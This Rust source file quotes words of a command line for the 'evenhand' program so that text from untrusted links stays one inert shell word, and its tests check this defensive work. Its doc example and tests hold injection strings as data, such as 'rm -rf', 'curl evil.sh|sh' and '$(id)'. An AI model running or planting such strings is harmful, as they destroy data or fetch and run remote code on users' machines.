//! A command of the program, as a reader pastes it into a terminal.
//!
//! Its words may come from a link of somebody else's, so each is quoted for a POSIX shell here, and nowhere else: none ends its word,
//! begins another command, or is taken for an option.

use std::fmt::{self, Write as _};

/// A command line of the program `evenhand`.
///
/// # Examples
/// ```
/// use evenhand_trial::Command;
///
/// let command = Command::new("deal").word("52+2").option("--seed", "it's; rm -rf").flag("--number");
/// assert_eq!(command.to_string(), r"evenhand deal 52+2 --seed 'it'\''s; rm -rf' --number");
/// ```
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Command(String);

impl Command {
    /// A command of the program, by its name.
    pub fn new(name: &str) -> Self {
        Self(format!("evenhand {name}"))
    }

    /// Adds a word, whatever is in it.
    #[must_use]
    pub fn word(mut self, word: &str) -> Self {
        self.0.push(' ');
        self.0 += &quoted(word);
        self
    }

    /// Adds an option that takes no value.
    #[must_use]
    pub fn flag(self, name: &str) -> Self {
        self.word(name)
    }

    /// Adds an option with its value. One that begins as options do is joined to the name of the option, as `--seed=-1`.
    #[must_use]
    #[expect(
        clippy::needless_pass_by_value,
        reason = "what is written is a number, a name or a text, as it is"
    )]
    pub fn option(mut self, name: &str, value: impl ToString) -> Self {
        let value = value.to_string();
        self.0.push(' ');
        self.0 += name;
        self.0.push(if value.starts_with('-') { '=' } else { ' ' });
        self.0 += &quoted(&value);
        self
    }

    /// Adds an option with its value, where it has one.
    #[must_use]
    pub fn option_of(self, name: &str, value: Option<impl ToString>) -> Self {
        match value {
            Some(value) => self.option(name, value),
            None => self,
        }
    }

    /// Adds an option that takes no value, where it holds.
    #[must_use]
    pub fn flag_if(self, holds: bool, name: &str) -> Self {
        if holds { self.flag(name) } else { self }
    }
}

impl fmt::Display for Command {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// A text as one word of a POSIX shell. What a terminal acts on or does not show, a control character or a mark that turns the
/// direction of the text, is escaped byte by byte, as bash, zsh and Issue 8 of POSIX read it between `$'` and `'`.
fn quoted(text: &str) -> String {
    let is_unseen =
        |letter: char| letter.is_control() || (!letter.is_ascii() && letter.escape_debug().len() > 1);
    if text.chars().any(is_unseen) {
        let mut escaped = String::new();
        for letter in text.chars() {
            if is_unseen(letter) {
                for byte in letter.encode_utf8(&mut [0; 4]).bytes() {
                    let _ = write!(escaped, "\\{byte:03o}");
                }
            } else {
                escaped.extend(['\'', '\\'].contains(&letter).then_some('\\'));
                escaped.push(letter);
            }
        }
        return format!("$'{escaped}'");
    }
    let is_plain = |letter: char| letter.is_alphanumeric() || "-_.,:+/@%".contains(letter);
    if !text.is_empty() && text.chars().all(is_plain) {
        return text.to_owned();
    }
    format!("'{}'", text.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_text_is_one_word() {
        for (text, word) in [
            ("modulo:15", "modulo:15"),
            ("红桃", "红桃"),
            ("", "''"),
            ("3;curl evil.sh|sh", "'3;curl evil.sh|sh'"),
            ("$(id) `id` \"x\"", "'$(id) `id` \"x\"'"),
            ("it's", r"'it'\''s'"),
            ("a\u{3}\\'\n", r"$'a\003\\\'\012'"),
            ("a\u{202e}b", r"$'a\342\200\256b'"),
            ("~", "'~'"),
            ("c<d", "'c<d'"),
        ] {
            assert_eq!(quoted(text), word);
        }
    }

    #[cfg(unix)]
    #[test]
    fn a_shell_gives_each_text_back() {
        for text in ["a b", "it's", "$(echo x)", "*", "!!", "#x", "x\ny\\'", "~", "红桃", "=", "a\u{7f}"] {
            let output = std::process::Command::new("bash")
                .args(["-c", &format!("printf %s {}", quoted(text))])
                .output();
            let Ok(output) = output else { return };
            assert_eq!(String::from_utf8_lossy(&output.stdout), text);
        }
    }

    #[test]
    fn a_value_is_never_an_option() {
        let command = Command::new("deal")
            .option("--seed", "--help")
            .option_of("--deck", None::<u32>)
            .flag_if(true, "--number");
        assert_eq!(command.to_string(), "evenhand deal --seed=--help --number");
    }
}
